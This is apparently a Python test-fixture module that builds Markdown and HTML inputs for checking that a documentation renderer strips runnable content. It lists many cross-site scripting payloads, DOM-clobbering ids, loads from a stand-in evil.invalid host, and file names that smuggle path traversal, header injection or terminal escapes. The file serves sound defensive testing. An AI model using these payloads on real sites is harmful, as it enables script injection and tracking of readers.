"""Texts that try to run a program on the reader's page, or to load something from elsewhere.

They are made of parts: what runs, how Markdown or HTML carries it, and how it is disguised.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java&#115;cript:alert(1)",
    "java&#x73;cript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript&colon;alert(1)",
    "&#1;javascript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
    "javascript://e.com/%0Aalert(1)",
    "java\tscript:alert(1)",
    "javascript&#0000058;alert(1)",
    "feed:javascript:alert(1)",
    "blob:null/1",
    "file:///etc/passwd",
)
LINKS = (
    "[click]({0})",
    "[click](<{0}>)",
    '[click]({0} "title")',
    "[click][1]\n\n[1]: {0}",
    "[click]\n\n[click]: {0}",
    "<{0}>",
    "![image]({0})",
    '<a href="{0}">click</a>',
    "<a href={0}>click</a>",
    "<img src='{0}'>",
)
HANDLERS = (
    'onmouseover="alert(1)"',
    "onclick=alert(1)",
    'onerror="alert(1)"',
    'onload="alert(1)"',
    'ontoggle="alert(1)"',
    'onfocus="alert(1)" tabindex="0" autofocus',
    'ONCLICK="alert(1)"',
    'style="background:url(//evil.invalid/s.png)"',
    'style="position:fixed;inset:0"',
)
CARRIERS = (
    "Text\n{{: {0} }}",
    "# Heading {{: {0} }}",
    "[link](https://example.com){{: {0} }}",
    "![image](missing.png){{: {0} }}",
    "*words*{{: {0} }}",
    "`code`{{: {0} }}",
    "| a | b |\n|---|---|\n| x {{: {0} }} | y |",
    "- item {{: {0} }}",
    "``` {{ .text {0} }}\ncode\n```",
    "<p {0}>text</p>",
    "<details open {0}>text</details>",
    '<div markdown="1" {0}>*text*</div>',
    "<b/><i/{0}>text</i>",
    '<img alt=">" src=missing.png {0}>',
    "Setext {{: {0} }}\n=====",
    "> quote\n{{: {0} }}",
    "1. item\n{{: {0} }}\n\n    more\n    {{: {0} }}",
    "Term\n:   meaning\n{{: {0} }}",
    "Text[^1]\n\n[^1]: Note\n    {{: {0} }}",
    "!!! note\n    Text\n    {{: {0} }}",
    '<section markdown="block" {0}>\n\n*text*\n\n</section>',
    "**[bold](a.md){{: {0} }}**{{: {0} }}",
    "[a][b]{{: {0} }}\n\n[b]: https://example.com",
    "<https://example.com>{{: {0} }}",
)
BROKEN_OUT = (
    "<img src=missing.png onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<img src=//evil.invalid/x>",
)
"""What runs or loads wherever it is read as HTML."""
WRAPPERS = (
    "> > {0}",
    "1. a\n    - b\n        - {0}",
    "| a |\n|---|\n| {0} |",
    "| a |\n|---|\n| `x` {0} \\| |",
    "Term\n:   {0}",
    "{0}\n:   Meaning",
    "Text[^1]\n\n[^1]: {0}",
    "Text[^{0}]\n\n[^{0}]: Note",
    "*[{0}]: x\n\n{0}",
    "*[ABC]: {0}\n\nABC",
    "!!! note\n    {0}",
    '!!! note "{0}"\n    Text',
    '!!! "{0}"\n    Text',
    "!!! {0}\n    Text",
    "<details><summary>{0}</summary>x</details>",
    '<div markdown="1">\n{0}\n</div>',
    '<div markdown="span">{0}</div>',
    "## {0}",
    "{0}\n----",
    "## Head {{#{0}}}",
    "*{0}*",
    "[{0}](https://example.com)",
    "![{0}](missing.png)",
    "[{0}][{0}]\n\n[{0}]: https://example.com",
    "[x]: https://example.com '{0}'\n\n[x]",
    '[x](https://example.com "{0}")',
    "[x](https://example.com/{0})",
    "<https://example.com/{0}>",
    "<mailto:{0}@example.com>",
    "```{0}\ncode\n```",
    "``` {{ .x title='{0}' }}\ncode\n```",
    "~~~\ncode\n~~~ {0}",
    "```\n{0}",
    "<!-- x\n\n--> {0}",
    "    code\n{0}",
    "\\{0}",
    "<p>\n\n{0}\n\n",
    "[TOC]\n\n## {0}\n\n### a {0}",
    "{0}{{: title='{0}' }}",
)
"""Where in Markdown it may stand."""
IDS = (
    "__search",
    "__drawer",
    "__config",
    "__md_scope",
    "__md_get",
    "mermaid",
    "applyFocusVisiblePolyfill",
    "location$",
    "document$",
    "gz-title",
    "md-header",
    "currentScript",
    "getElementById",
    "__proto__",
    "constructor",
)
"""Ids by which scripts of the page may find an element of a text instead of their own."""
NAMED = (
    "## Head {{: #{0} }}",
    "## {0}",
    "Text\n{{: id={0} }}",
    '<a id="{0}" href="https://evil.invalid/">x</a>',
    '<a name="{0}" href="https://evil.invalid/">x</a>',
    '<img name="{0}" src="missing.png">',
)
ELEMENTS = (
    "<script>alert(1)</script>",
    "<script src=//evil.invalid/x.js></script>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<math><mtext><style><img src=missing.png onerror=alert(1)></style></mtext></math>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=//evil.invalid/></iframe>",
    "<object data=//evil.invalid/x></object>",
    "<embed src=//evil.invalid/x>",
    "<form action=//evil.invalid/><input name=x autofocus onfocus=alert(1)></form>",
    "<video src=//evil.invalid/x autoplay onerror=alert(1)></video>",
    "<audio src=//evil.invalid/x onerror=alert(1)></audio>",
    "<picture><source srcset=//evil.invalid/x><img src=missing.png></picture>",
    "<img src=//evil.invalid/x>",
    r"<img src=\\evil.invalid\x>",
    "<img src=https:evil.invalid/x>",
    "<img src=missing.png srcset='//evil.invalid/x 2x'>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>@import '//evil.invalid/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.invalid/>",
    "<body onload=alert(1)>",
    "<body background=//evil.invalid/x>",
    "<table background=//evil.invalid/x><tr><td>x</table>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=missing.png onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=missing.png onerror=alert(1)>'>",
    "<title><img title='</title><img src=missing.png onerror=alert(1)>'>",
    "<xmp><img title='</xmp><img src=missing.png onerror=alert(1)>'>",
    "<plaintext><img src=missing.png onerror=alert(1)>",
    "<!--><img src=missing.png onerror=alert(1)>-->",
    "<!-- --!><img src=missing.png onerror=alert(1)> -->",
    "<![CDATA[><img src=missing.png onerror=alert(1)>]]>",
    "<?x ><img src=missing.png onerror=alert(1)> ?>",
    "<a href='x' ping='//evil.invalid/'>x</a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input type=image src=//evil.invalid/x>",
    "<button formaction=javascript:alert(1) autofocus onfocus=alert(1)>x</button>",
    "<isindex type=image src=//evil.invalid/x onerror=alert(1)>",
    "<image src=//evil.invalid/x onerror=alert(1)>",
    "<div class=mermaid>graph TD; A-->B</div>",
    "<p id=__search data-md-component=search>x</p>",
    "\\`<img src=missing.png onerror=alert(1)>\\`",
    "`` ` ``<img src=missing.png onerror=alert(1)>``",
    '*[ABC]: x" onmouseover="alert(1)\n\nABC ABC',
    "Text[^1]\n\n[^1]: <img src=missing.png onerror=alert(1)>",
    "Text[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: Note",
    '!!! note "<img src=missing.png onerror=alert(1)>"\n    Text',
    "!!! note mermaid\n    graph TD; A-->B",
    "Term <img src=missing.png onerror=alert(1)>\n:   Meaning",
    "> <img src=missing.png onerror=alert(1)>",
    "| <img src=missing.png onerror=alert(1)> | b |\n|---|---|\n| x | y |",
    '![" onerror="alert(1)](missing.png)',
    "![x](missing.png \"' onerror='alert(1)\")",
    '[x](missing.md "\\" onmouseover=\\"alert(1)")',
    '<http://example.com/"onmouseover="alert(1)>',
    '<a@example.com"onmouseover="alert(1)>',
    "&lt;img src=missing.png onerror=alert(1)&gt; <img src=missing.png onerror=alert(1)>",
    "\x02<img src=missing.png onerror=alert(1)>\x03",
    "<im\0g src=missing.png onerror=alert(1)>",
    "<img\x0bsrc=missing.png\x0bonerror=alert(1)>",
    "<img\nsrc=missing.png\nonerror=alert(1)\n>",
    "<a name=x id=mermaid>x</a>",
)
NAMES = (
    "<img src=x onerror=alert(1)>.md",
    "x\n::error::injected.md",
    "\x1b[31mred.md",
    'a" onclick="alert(1).md',
    "javascript:alert(1).md",
    "..%2f..%2fetc.md",
    "a&lt;b.md",
    "%0d%0aSet-Cookie: x.md",
)
"""Names of files."""


def texts() -> Iterator[str]:
    """Yield Markdown that carries each of these, none of which may run."""
    yield from ELEMENTS
    yield from (link.format(scheme) for link, scheme in product(LINKS, SCHEMES))
    yield from (carrier.format(handler) for carrier, handler in product(CARRIERS, HANDLERS))
    yield from (wrapper.format(broken) for wrapper, broken in product(WRAPPERS, BROKEN_OUT))
    yield from (named.format(name) for named, name in product(NAMED, IDS))


def values() -> Iterator[str]:
    """Yield lines of text that would break out of the place where metadata stands in a page."""
    for opening in ("", '">', "'>", "</title>", "</script>", "-->", "]]>", "{{", "&quot;>"):
        yield f"Terms {opening}<img src=missing.png onerror=alert(1)>"
        yield f"Terms {opening}<script>alert(1)</script>"
    yield 'Terms" onmouseover="alert(1)" x="'
    yield "Terms &lt;img src=missing.png onerror=alert(1)&gt;"
    yield "Terms {{ config }} {% raw %} ${alert(1)}"
    yield "[Terms](javascript:alert(1)) `x` *y*"
